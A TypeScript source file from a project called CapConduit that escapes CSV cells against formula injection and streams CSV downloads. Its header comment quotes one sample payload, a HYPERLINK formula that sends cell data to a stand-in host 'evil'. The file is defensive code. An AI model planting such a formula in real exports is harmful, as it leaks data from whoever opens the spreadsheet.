/**
 * Every CSV CapConduit writes goes through here, so no cell can run as a formula when someone
 * opens the file in a spreadsheet (CSV or formula injection: a caller ID of
 * `=HYPERLINK("http://evil/?"&A1)` would otherwise become a live link on the admin's machine).
 *
 * The rule (OWASP "CSV Injection", ASVS 1.2.10): a text cell that starts with `=`, `+`, `-`, `@`,
 * a tab, a carriage return, a line feed or a NUL — or their full-width forms `＝＋－＠`, which some
 * spreadsheets accept too — gets a leading apostrophe, which spreadsheets take as "text follows".
 * A plain number is data, not a formula, and is left alone: `+14155550100` (E.164), `-1.5000`
 * (an amount), `-3`, `+2.5e3`. Nothing after its sign can call a function or name a cell, so
 * the worst a spreadsheet does with it is show it as a number.
 *
 * A cell that already starts with an apostrophe followed by something this rule would escape gets
 * one more, so `restoreCell` gives back exactly what was written: an exported file re-imports
 * unchanged (`capconduit cid export` → `cid import`).
 */
import { pipeline, Readable } from 'node:stream';
import { stringify, type Stringifier } from 'csv-stringify';
import { stringify as stringifySync } from 'csv-stringify/sync';

const TRIGGER = /^[=+\-@\t\r\n\0＝＋－＠]/;
const PLAIN_NUMBER = /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/;

/** True when `text` must be written with a leading apostrophe. */
function needsEscape(text: string): boolean {
  if (TRIGGER.test(text)) return !PLAIN_NUMBER.test(text);
  return text.startsWith("'") && needsEscape(text.slice(1));
}

/** A text cell as written to a CSV file: prefixed with `'` when a spreadsheet would run it. */
export function escapeCell(text: string): string {
  return needsEscape(text) ? `'${text}` : text;
}

/** The inverse of `escapeCell`, for CSV files CapConduit reads back (caller-ID import). */
export function restoreCell(cell: string): string {
  return cell.startsWith("'") && needsEscape(cell.slice(1)) ? cell.slice(1) : cell;
}

const OPTIONS = { cast: { string: escapeCell } };

/**
 * A streaming CSV writer (objects or arrays in, text out) with a header row of `columns`;
 * every text cell escaped. Dates, booleans and numbers keep csv-stringify's defaults.
 */
export function csvWriter(columns: readonly string[]): Stringifier {
  return stringify({ ...OPTIONS, header: true, columns: [...columns] });
}

/** A small CSV document at once (a header row of `columns`, then `rows`), every text cell escaped. */
export function csvText(columns: readonly string[], rows: readonly (readonly unknown[])[]): string {
  return stringifySync(rows as unknown[][], { ...OPTIONS, header: true, columns: [...columns] });
}

/** One CSV line without its line break (for printing a few rows), every text cell escaped. */
export function csvLine(cells: readonly unknown[]): string {
  return stringifySync([cells as unknown[]], { ...OPTIONS, record_delimiter: '' });
}

/**
 * A CSV download of `rows` (objects or arrays), a header row of `columns` first.
 *
 * The first row is read before anything is sent, so a query that fails at once (a bad filter, an
 * unreachable database) is an error answer with its status, not a broken download. A failure
 * later on destroys the returned stream with the error — the HTTP server then aborts the reply,
 * so the client sees a truncated transfer instead of a short file that looks complete — and is
 * never left without a listener: an unhandled 'error' on a stream ends the whole process.
 */
export async function csvDownload(
  rows: AsyncIterable<unknown>,
  columns: readonly string[],
): Promise<Readable> {
  const it = rows[Symbol.asyncIterator]();
  const first = await it.next();
  async function* all() {
    if (first.done) return;
    yield first.value;
    for (let r = await it.next(); !r.done; r = await it.next()) yield r.value;
  }
  // pipeline() carries an error of either stream to the other and to its callback; the
  // returned writer is destroyed with it, which is what the reply listens to.
  return pipeline(Readable.from(all()), csvWriter(columns), () => undefined);
}
